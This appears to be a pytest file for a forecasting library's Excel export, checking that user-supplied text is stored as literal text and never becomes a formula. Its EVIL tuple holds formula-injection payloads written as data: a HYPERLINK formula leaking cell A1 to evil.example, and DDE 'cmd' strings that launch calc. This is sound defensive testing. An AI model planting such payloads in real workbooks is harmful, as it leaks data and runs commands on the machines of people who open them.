"""What data says never becomes a formula, and what cannot be written is refused in words."""

import zipfile
from dataclasses import replace
from xml.etree import ElementTree

import openpyxl
import pandas as pd
import pytest

from forecast.calibration import calibrate
from forecast.distributions import normal
from forecast.drivers import Formula, Growth, Path, Rate
from forecast.errors import SimulationError
from forecast.financials import History
from forecast.model import CalibratedModel, Model, assume
from forecast.reporting.workbook import write_results, write_workbook
from forecast.reporting.workbook.cells import sheet_names
from forecast.scenario import Mixture, Scenario
from forecast.shocks import Scale
from forecast.simulation import simulate

EVIL = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
    "#REF!",
    "<script>alert(1)</script>",
    "'=quoted'!A1",
)


@pytest.fixture(scope="module")
def company():
    model = Model(
        Growth("sales", growth=assume(normal(0.01, 0.01), because=EVIL[0]), start=assume(100.0, because=EVIL[1]),
               persistence=0.0, momentum=0.0, volatility=0.1),
        Rate("fx", volatility=0.1, start=assume(7.0, because=EVIL[3]), unit=EVIL[0]),
        Path("rent", value=assume(20.0, because=EVIL[4]), currency=EVIL[2], unit=EVIL[0]),
        Formula("cash = cash[-1] + sales - rent"),
    )  # fmt: skip
    history = History.from_frame(pd.DataFrame({"cash": [1.0, 2.0]}, index=["2025Q3", "2025Q4"]), currency=EVIL[1])
    return calibrate(model, history)


@pytest.fixture(scope="module")
def scenarios():
    return [
        Scenario(text, Scale("sales", 0.5 + place / 40, start="2026Q2", event=EVIL[place - 1]), because=EVIL[-place])
        for place, text in enumerate(EVIL, 1)
    ]


def formulas(path):
    """Every formula in the file itself, with the number of cells that hold text."""
    found, texts = [], 0
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/sheet"):
                tree = ElementTree.fromstring(parts.read(name))
                space = {"x": tree.tag[1:].partition("}")[0]}
                found += [cell.text for cell in tree.iterfind(".//x:c/x:f", space)]
                texts += sum(cell.get("t") in ("s", "inlineStr") for cell in tree.iterfind(".//x:c", space))
    return found, texts


def test_texts_of_data_are_texts_in_the_file_and_stay_texts_when_edited(company, scenarios, tmp_path):
    sections = {"=1+1": ["sales"], "=1+1 ": ["rent"], "a[b]*?:/\\" + "x" * 60: ["fx"]}
    path = write_workbook(tmp_path / "evil.xlsx", company, scenarios, until="2026Q4", sections=sections)
    found, texts = formulas(path)
    assert texts > 100
    assert found
    for formula in found:
        assert not any(word in formula for word in ("HYPERLINK", "cmd", "evil", "script", "http"))
    book, seen = openpyxl.load_workbook(path), set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type != "f" and cell.value in EVIL:
                    seen.add(cell.value)
                    assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@", "\t")), cell.value
    assert seen == set(EVIL)
    assert book.sheetnames[3:6] == ["=1+1", "=1+1 2", "a b      " + "x" * 22]


def test_libreoffice_shows_them_as_they_are(company, scenarios, tmp_path, recalculate):
    path = write_workbook(tmp_path / "evil.xlsx", company, scenarios, until="2026Q4")
    book = recalculate(path)["written"]
    names = [row[1] for row in book.sheets["Start"][7 : 7 + len(EVIL)]]
    assert [name.strip() for name in names] == [text.strip() for text in EVIL]
    assert book["Start", "B5"].strip() == EVIL[0]
    assert book["Start", "B6"] == "OK"


def test_the_warnings_of_the_company_stand_on_the_first_sheet_as_text(
    company, scenarios, tmp_path, recalculate, monkeypatch
):
    monkeypatch.setattr(CalibratedModel, "warnings", EVIL)
    path = write_workbook(tmp_path / "evil.xlsx", replace(company), scenarios[:1], until="2026Q4")
    page = openpyxl.load_workbook(path)["Start"]
    heading = next(cell for (cell,) in page.iter_rows(max_col=1) if cell.value == f"Warnings: {len(EVIL)}")
    cells = [page.cell(heading.row + place, 1) for place in range(1, len(EVIL) + 1)]
    assert tuple(cell.value for cell in cells) == EVIL
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.quotePrefix for cell in cells if cell.value.startswith(("=", "+", "-", "@", "\t")))
    book = recalculate(path)["written"]
    shown = [row[0] for row in book.sheets["Start"][heading.row : heading.row + len(EVIL)]]
    assert [one.strip() for one in shown] == [text.strip() for text in EVIL]
    assert book["Start", "B6"] == "OK"


def test_without_warnings_the_first_sheet_has_no_heading_for_them(company, scenarios, tmp_path, monkeypatch):
    monkeypatch.setattr(CalibratedModel, "warnings", ())
    page = openpyxl.load_workbook(write_workbook(tmp_path / "calm.xlsx", replace(company), scenarios[:1]))["Start"]
    assert not any(str(cell.value).startswith("Warnings") for (cell,) in page.iter_rows(max_col=1))


def test_results_hold_no_formula_at_all(company, scenarios, tmp_path):
    runs = simulate(company, scenarios, until="2026Q4", paths=20, seed=1)
    path = write_results(tmp_path / "results.xlsx", runs)
    found, texts = formulas(path)
    assert found == []
    assert texts > 100


def test_two_sheets_never_share_a_name():
    assert sheet_names(["Start", "a", "A", "", "''", "x" * 40, "x" * 41, "History"], ("Start",)) == [
        "Start 2", "a", "A 2", "sheet", "sheet 2", "x" * 31, "x" * 29 + " 2", "History 2",
    ]  # fmt: skip


def test_a_mixture_has_no_central_path(company, scenarios, tmp_path):
    mixture = Mixture("both", ((scenarios[0], 0.5), (scenarios[1], 0.5)))
    with pytest.raises(SimulationError) as caught:
        write_workbook(tmp_path / "mixed.xlsx", company, mixture, until="2026Q4")
    assert str(caught.value) == (
        "the scenario is an object of the type Mixture, not Scenario; a mixture has no central path; "
        "pass its scenarios."
    )


def test_sections_that_do_not_fit_are_refused_together(company, scenarios, tmp_path):
    with pytest.raises(SimulationError) as caught:
        write_workbook(
            tmp_path / "no.xlsx", company, scenarios, until="2026Q4", sections={"A": ["sale", "rent"], "B": ["rent"]}
        )
    assert str(caught.value) == (
        "the sections do not fit the model\n"
        "  - section 'A' has 'sale'. Did you mean 'sales'?\n"
        "  - section 'B' has 'rent', which an earlier one has already."
    )


def test_results_of_unknown_lines_are_refused(company, scenarios, tmp_path):
    runs = simulate(company, scenarios[0], until="2026Q4", paths=20, seed=1)
    with pytest.raises(SimulationError) as caught:
        write_results(tmp_path / "no.xlsx", runs, ["sale"])
    assert str(caught.value) == ("the results cannot be written\n  - there is no line 'sale'. Did you mean 'sales'?")
